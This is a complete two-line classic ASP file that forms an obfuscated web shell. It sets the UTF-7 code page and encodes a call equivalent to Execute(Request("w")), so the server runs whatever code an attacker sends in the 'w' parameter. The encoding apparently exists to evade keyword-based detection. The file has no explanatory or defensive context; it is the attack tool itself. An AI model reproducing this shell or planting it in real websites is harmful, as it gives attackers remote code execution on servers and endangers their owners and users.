<%@ CodePage=65000 %>
<%+AEU-xecute(Request(+ACI-w+ACI))%>
